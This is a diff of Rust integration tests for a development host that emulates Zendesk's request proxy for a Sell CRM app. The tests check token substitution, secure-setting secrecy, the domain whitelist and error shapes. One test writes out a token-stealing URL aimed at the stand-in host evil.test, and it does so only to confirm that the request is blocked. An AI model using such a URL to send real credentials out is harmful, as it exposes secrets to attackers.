@@ -6,11 +6,13 @@ use std::path::PathBuf;
 use devhost::host::{serve, HostOptions, RunningHost};
 use serde_json::{json, Value};
 
-const AGENT_EMAILS: [&str; 4] = [
+const AGENT_EMAILS: [&str; 6] = [
     "ada@acme.test",
     "nora@acme.test",
     "ivan@acme.test",
     "zed@acme.test",
+    "max@acme.test",
+    "sofia@acme.test",
 ];
 const ADA_SELL_ID: u64 = 1;
 const NORA_SELL_ID: u64 = 3;
@@ -83,12 +85,10 @@ impl Host {
     }
 
     /// What the page does for the app's `request:<n>`: the reply `{outcome, responseArgs, log}`.
-    async fn proxy(&self, options: Value, agent: Option<&str>) -> Value {
+    /// Only the options: Zendesk's proxy fills the installation's settings, whoever the agent is.
+    async fn proxy(&self, options: Value) -> Value {
         let (status, reply) = self
-            .post_json(
-                "/_host/proxy",
-                json!({"options": options, "agent": agent, "ticket": 102}),
-            )
+            .post_json("/_host/proxy", json!({ "options": options }))
             .await;
         assert_eq!(
             status, 200,
@@ -250,7 +250,8 @@ async fn config_starts_at_ada_on_ticket_102_with_default_settings() {
     assert_eq!(
         config["settings"],
         json!({
-            "all_agents_access": false, "lead_status": "New", "lead_source": "Zendesk Support",
+            "all_agents_access": false, "full_access_users": "",
+            "lead_status": "New", "lead_source": "Zendesk Support",
             "lead_owners": "", "agents_assign_owner": false, "account_owner": "",
             "lead_fields": "", "contact_fields": "", "deal_fields": "",
         })
@@ -264,7 +265,8 @@ async fn config_round_trips_and_drives_what_the_app_is_told() {
         .post_json(
             "/_host/config",
             json!({"agent": "nora@acme.test", "ticket": 104, "locale": "en-US",
-                   "settings": {"all_agents_access": true, "lead_owners": "Inbound pool"},
+                   "settings": {"all_agents_access": true, "lead_owners": "Inbound pool",
+                                "full_access_users": "4\nmax@acme.test"},
                    "requester_override": {"email": "dana.new@dupe.test"}}),
         )
         .await;
@@ -294,6 +296,10 @@ async fn config_round_trips_and_drives_what_the_app_is_told() {
         zaf["metadata"]["settings"]["lead_owners"],
         json!("Inbound pool")
     );
+    assert_eq!(
+        zaf["metadata"]["settings"]["full_access_users"],
+        json!("4\nmax@acme.test")
+    );
 }
 
 #[tokio::test]
@@ -302,15 +308,15 @@ async fn a_bad_config_is_refused_with_a_message_and_changes_nothing() {
     let (status, body) = host
         .post_json(
             "/_host/config",
-            json!({"agent": "max@acme.test", "ticket": 101}),
+            json!({"agent": "tom@acme.test", "ticket": 101}),
         )
         .await;
-    assert_eq!(status, 400);
+    assert_eq!(status, 400, "Tom is a Sell user but no Support agent");
     assert!(
         body["error"]
             .as_str()
             .unwrap_or("")
-            .contains("max@acme.test"),
+            .contains("tom@acme.test"),
         "{body}"
     );
     let config = host.get_json("/_host/config").await;
@@ -329,7 +335,7 @@ async fn a_bad_config_is_refused_with_a_message_and_changes_nothing() {
 }
 
 #[tokio::test]
-async fn the_catalog_lists_the_four_agents_and_eight_tickets() {
+async fn the_catalog_lists_the_six_agents_and_eight_tickets() {
     let host = start().await;
     let catalog = host.get_json("/_host/catalog").await;
     let emails: Vec<&str> = catalog["agents"]
@@ -340,17 +346,57 @@ async fn the_catalog_lists_the_four_agents_and_eight_tickets() {
     assert_eq!(catalog["tickets"].as_array().map(Vec::len), Some(8));
 }
 
+/// The switcher's Sell label of each agent, checked against the emulator's users: a label that
+/// drifted from the Sell seed would mislead whoever picks an agent to test visibility.
+#[tokio::test]
+async fn each_agents_sell_label_matches_the_emulators_users() {
+    let host = start().await;
+    let catalog = host.get_json("/_host/catalog").await;
+    let users = host.get_json("/_emu/state").await["users"]
+        .as_array()
+        .cloned()
+        .unwrap_or_default();
+    let agents = catalog["agents"].as_array().cloned().unwrap_or_default();
+    assert_eq!(agents.len(), AGENT_EMAILS.len());
+    for agent in &agents {
+        let email = agent["email"].as_str().unwrap_or_default();
+        let user = users.iter().find(|u| u["email"] == json!(email));
+        let standing = match user {
+            None => "no Sell user",
+            Some(user) if user["status"] != json!("active") => "inactive Sell user",
+            Some(user) if user["reports_to"].is_null() => "Sell admin, top-most manager",
+            Some(user) => {
+                let has_reports = users
+                    .iter()
+                    .any(|other| other["reports_to"] == user["id"] && other["email"].is_string());
+                if has_reports {
+                    "Sell manager"
+                } else {
+                    "Sell user"
+                }
+            }
+        };
+        assert_eq!(agent["sell"], json!(standing), "{email}");
+    }
+    let manager_emails: Vec<&str> = agents
+        .iter()
+        .filter(|a| a["sell"] == json!("Sell manager"))
+        .filter_map(|a| a["email"].as_str())
+        .collect();
+    assert_eq!(manager_emails, ["max@acme.test", "sofia@acme.test"]);
+}
+
 #[tokio::test]
 async fn secure_settings_never_appear_in_any_page_or_get_response() {
     let host = start().await;
-    // Make the request log non-empty, with a secure request of each credential.
+    // Make the request log non-empty: the installation token, and a name no setting fills.
     for token in ["sell_api_token", "sell_user_token"] {
         let options = sell_get(
             "/v2/users/self",
             &format!("Bearer {{{{setting.{token}}}}}"),
             true,
         );
-        host.proxy(options, Some("nora@acme.test")).await;
+        host.proxy(options).await;
     }
     let (status, answer) = host
         .post_json(
@@ -393,10 +439,11 @@ async fn secure_settings_never_appear_in_any_page_or_get_response() {
 async fn a_secure_request_gets_the_installation_token_filled_in_on_the_server() {
     let host = start().await;
     let reply = host
-        .proxy(
-            sell_get("/v2/users/self", "Bearer {{setting.sell_api_token}}", true),
-            Some("nora@acme.test"),
-        )
+        .proxy(sell_get(
+            "/v2/users/self",
+            "Bearer {{setting.sell_api_token}}",
+            true,
+        ))
         .await;
     assert_eq!(reply["outcome"], json!("done"), "{reply}");
     assert_eq!(reply["responseArgs"][0]["data"]["id"], json!(ADA_SELL_ID));
@@ -409,10 +456,11 @@ async fn a_secure_request_gets_the_installation_token_filled_in_on_the_server() 
 async fn a_non_secure_request_is_sent_with_its_placeholder_as_written() {
     let host = start().await;
     let reply = host
-        .proxy(
-            sell_get("/v2/users/self", "Bearer {{setting.sell_api_token}}", false),
-            None,
-        )
+        .proxy(sell_get(
+            "/v2/users/self",
+            "Bearer {{setting.sell_api_token}}",
+            false,
+        ))
         .await;
     assert_eq!(reply["outcome"], json!("fail"), "{reply}");
     assert_eq!(reply["responseArgs"][0]["status"], json!(401));
@@ -427,42 +475,45 @@ async fn a_non_secure_request_is_sent_with_its_placeholder_as_written() {
 }
 
 #[tokio::test]
-async fn the_oauth_placeholder_is_the_current_agents_own_sell_token() {
+async fn the_old_per_agent_placeholder_is_not_filled_and_sell_refuses_it_whoever_the_agent_is() {
     let host = start().await;
     let options = sell_get("/v2/users/self", "Bearer {{setting.sell_user_token}}", true);
+    for agent in AGENT_EMAILS {
+        host.post_json("/_host/config", json!({"agent": agent}))
+            .await;
+        let reply = host.proxy(options.clone()).await;
+        assert_eq!(reply["outcome"], json!("fail"), "{agent}: {reply}");
+        assert_eq!(reply["responseArgs"][0]["status"], json!(401), "{agent}");
+        assert_eq!(
+            reply["log"]["credential"],
+            json!("unknown:sell_user_token"),
+            "{agent}"
+        );
+        let logged = host.last_sell_log().await;
+        assert_eq!(
+            (logged["status"].clone(), logged["user_id"].clone()),
+            (json!(401), Value::Null),
+            "{agent}: the placeholder went out as written, no one's token"
+        );
+    }
+}
 
-    let nora = host.proxy(options.clone(), Some("nora@acme.test")).await;
-    assert_eq!(
-        nora["responseArgs"][0]["data"]["id"],
-        json!(NORA_SELL_ID),
-        "{nora}"
-    );
-    assert_eq!(host.last_sell_log().await["user_id"], json!(NORA_SELL_ID));
-    assert_eq!(nora["log"]["credential"], json!("agent"));
-
-    // Without an agent in the call, the configured agent's token is used.
-    host.post_json("/_host/config", json!({"agent": "nora@acme.test"}))
-        .await;
-    let configured = host.proxy(options.clone(), None).await;
-    assert_eq!(
-        configured["responseArgs"][0]["data"]["id"],
-        json!(NORA_SELL_ID)
-    );
-
-    let zed = host.proxy(options.clone(), Some("zed@acme.test")).await;
-    assert_eq!(zed["outcome"], json!("fail"));
-    assert_eq!(
-        zed["responseArgs"][0]["status"],
-        json!(401),
-        "an agent without a Sell user has no token"
-    );
-
-    let ivan = host.proxy(options, Some("ivan@acme.test")).await;
-    assert_eq!(
-        ivan["responseArgs"][0]["status"],
-        json!(401),
-        "an inactive Sell user is refused"
-    );
+#[tokio::test]
+async fn every_agent_s_secure_request_carries_the_one_installation_token() {
+    let host = start().await;
+    let options = sell_get("/v2/users/self", "Bearer {{setting.sell_api_token}}", true);
+    for agent in AGENT_EMAILS {
+        host.post_json("/_host/config", json!({"agent": agent}))
+            .await;
+        let reply = host.proxy(options.clone()).await;
+        assert_eq!(
+            reply["responseArgs"][0]["data"]["id"],
+            json!(ADA_SELL_ID),
+            "{agent}: {reply}"
+        );
+        assert_eq!(reply["log"]["credential"], json!("installation"));
+        assert_eq!(host.last_sell_log().await["user_id"], json!(ADA_SELL_ID));
+    }
 }
 
 #[tokio::test]
@@ -471,11 +522,11 @@ async fn a_secure_setting_set_on_the_host_replaces_the_installation_token() {
     host.post_json("/_host/secure", json!({"sell_api_token": "revoked-token"}))
         .await;
     let options = sell_get("/v2/users/self", "Bearer {{setting.sell_api_token}}", true);
-    let refused = host.proxy(options.clone(), None).await;
+    let refused = host.proxy(options.clone()).await;
     assert_eq!(refused["responseArgs"][0]["status"], json!(401));
     host.post_json("/_host/secure", json!({"sell_api_token": null}))
         .await;
-    let back = host.proxy(options, None).await;
+    let back = host.proxy(options).await;
     assert_eq!(back["responseArgs"][0]["data"]["id"], json!(ADA_SELL_ID));
 }
 
@@ -489,7 +540,7 @@ async fn a_domain_outside_the_whitelist_fails_with_403_and_is_not_sent() {
         .expect("clear the emulator log");
     let options =
         json!({"url": "https://evil.test/steal?t={{setting.sell_api_token}}", "secure": true});
-    let reply = host.proxy(options, None).await;
+    let reply = host.proxy(options).await;
     assert_eq!(reply["outcome"], json!("fail"));
     let args = reply["responseArgs"]
         .as_array()
@@ -527,14 +578,11 @@ async fn done_replies_have_jquery_shape_without_and_one_full_response_with_http_
 {
     let host = start().await;
     let plain = host
-        .proxy(
-            sell_get(
-                "/v2/lead_statuses?per_page=100",
-                "Bearer {{setting.sell_api_token}}",
-                true,
-            ),
-            None,
-        )
+        .proxy(sell_get(
+            "/v2/lead_statuses?per_page=100",
+            "Bearer {{setting.sell_api_token}}",
+            true,
+        ))
         .await;
     assert_eq!(plain["outcome"], json!("done"));
     let args = plain["responseArgs"]
@@ -555,7 +603,7 @@ async fn done_replies_have_jquery_shape_without_and_one_full_response_with_http_
         true,
     );
     options["httpCompleteResponse"] = json!(true);
-    let full = host.proxy(options, None).await;
+    let full = host.proxy(options).await;
     let args = full["responseArgs"].as_array().cloned().unwrap_or_default();
     assert_eq!(args.len(), 1);
     assert_eq!(args[0]["status"], json!(200));
@@ -583,7 +631,7 @@ async fn non_2xx_answers_fail_with_the_xhr_the_word_error_and_the_status_text_wh
             true,
         );
         options["httpCompleteResponse"] = json!(complete);
-        let reply = host.proxy(options, None).await;
+        let reply = host.proxy(options).await;
         assert_eq!(reply["outcome"], json!("fail"), "{reply}");
         let args = reply["responseArgs"]
             .as_array()
@@ -610,14 +658,11 @@ async fn an_injected_429_reaches_the_app_with_its_retry_after_header() {
     let (status, _) = host.post_json("/_emu/faults", faults).await;
     assert!((200..300).contains(&status));
     let reply = host
-        .proxy(
-            sell_get(
-                "/v2/leads?email=lea%40lead-only.test",
-                "Bearer {{setting.sell_api_token}}",
-                true,
-            ),
-            None,
-        )
+        .proxy(sell_get(
+            "/v2/leads?email=lea%40lead-only.test",
+            "Bearer {{setting.sell_api_token}}",
+            true,
+        ))
         .await;
     assert_eq!(reply["responseArgs"][0]["status"], json!(429), "{reply}");
     assert_eq!(
@@ -625,14 +670,11 @@ async fn an_injected_429_reaches_the_app_with_its_retry_after_header() {
         json!("5")
     );
     let again = host
-        .proxy(
-            sell_get(
-                "/v2/leads?email=lea%40lead-only.test",
-                "Bearer {{setting.sell_api_token}}",
-                true,
-            ),
-            None,
-        )
+        .proxy(sell_get(
+            "/v2/leads?email=lea%40lead-only.test",
+            "Bearer {{setting.sell_api_token}}",
+            true,
+        ))
         .await;
     assert_eq!(again["outcome"], json!("done"), "the fault fired once");
 }
@@ -645,7 +687,7 @@ async fn a_request_slower_than_its_timeout_fails_with_status_0_timeout() {
     let mut options = sell_get("/v2/users/self", "Bearer {{setting.sell_api_token}}", true);
     options["timeout"] = json!(200);
     let started = std::time::Instant::now();
-    let reply = host.proxy(options, None).await;
+    let reply = host.proxy(options).await;
     assert!(
         started.elapsed() < std::time::Duration::from_millis(2500),
         "the proxy gave up at the timeout"
@@ -664,24 +706,30 @@ async fn a_post_with_a_json_body_creates_a_lead_and_carries_the_proxy_user_agent
         "type": "POST",
         "contentType": "application/json",
         "secure": true,
-        "headers": {"Authorization": "Bearer {{setting.sell_user_token}}"},
-        "data": json!({"data": {"last_name": "Proxied", "email": "proxied@lead.test"}}).to_string(),
+        "headers": {"Authorization": "Bearer {{setting.sell_api_token}}"},
+        "data": json!({"data": {"last_name": "Proxied", "email": "proxied@lead.test", "owner_id": NORA_SELL_ID}}).to_string(),
         "httpCompleteResponse": true,
     });
-    let reply = host.proxy(options, Some("nora@acme.test")).await;
+    let reply = host.proxy(options).await;
     assert_eq!(reply["outcome"], json!("done"), "{reply}");
     assert_eq!(
         reply["responseArgs"][0]["responseJSON"]["data"]["last_name"],
         json!("Proxied")
     );
     assert_eq!(
+        reply["responseArgs"][0]["responseJSON"]["data"]["owner_id"],
+        json!(NORA_SELL_ID),
+        "the owner the app set explicitly"
+    );
+    assert_eq!(
         reply["responseArgs"][0]["responseJSON"]["data"]["creator_id"],
-        json!(NORA_SELL_ID)
+        json!(ADA_SELL_ID),
+        "the creator is the installation token's user, whoever the agent is"
     );
     let logged = host.last_sell_log().await;
     assert_eq!(
         (logged["method"].clone(), logged["user_id"].clone()),
-        (json!("POST"), json!(NORA_SELL_ID))
+        (json!("POST"), json!(ADA_SELL_ID))
     );
 }
 
@@ -694,7 +742,7 @@ async fn get_data_becomes_the_query_string() {
         "headers": {"Authorization": "Bearer {{setting.sell_api_token}}"},
         "data": {"email": "lea@lead-only.test"},
     });
-    let reply = host.proxy(options, None).await;
+    let reply = host.proxy(options).await;
     assert_eq!(reply["outcome"], json!("done"), "{reply}");
     assert_eq!(reply["log"]["path"], json!("/v2/leads"));
     let logged = host.last_sell_log().await;
@@ -714,14 +762,11 @@ async fn get_data_becomes_the_query_string() {
 #[tokio::test]
 async fn bad_options_fail_like_a_refused_request() {
     let host = start().await;
-    let no_url = host.proxy(json!({"type": "GET"}), None).await;
+    let no_url = host.proxy(json!({"type": "GET"})).await;
     assert_eq!(no_url["outcome"], json!("fail"));
     assert_eq!(no_url["responseArgs"][0]["status"], json!(400));
     let underscore = host
-        .proxy(
-            json!({"url": "https://api.getbase.com/v2/users/self", "headers": {"X_Token": "a"}}),
-            None,
-        )
+        .proxy(json!({"url": "https://api.getbase.com/v2/users/self", "headers": {"X_Token": "a"}}))
         .await;
     assert!(underscore["responseArgs"][0]["responseText"]
         .as_str()
@@ -732,12 +777,13 @@ async fn bad_options_fail_like_a_refused_request() {
 #[tokio::test]
 async fn the_request_log_lists_each_proxied_call_and_can_be_cleared() {
     let host = start().await;
-    host.proxy(
-        sell_get("/v2/users/self", "Bearer {{setting.sell_api_token}}", true),
-        None,
-    )
+    host.proxy(sell_get(
+        "/v2/users/self",
+        "Bearer {{setting.sell_api_token}}",
+        true,
+    ))
     .await;
-    host.proxy(json!({"url": "https://evil.test/"}), None).await;
+    host.proxy(json!({"url": "https://evil.test/"})).await;
     let log = host.get_json("/_host/requests").await;
     let rows: Vec<(Value, Value, Value)> = log
         .as_array()
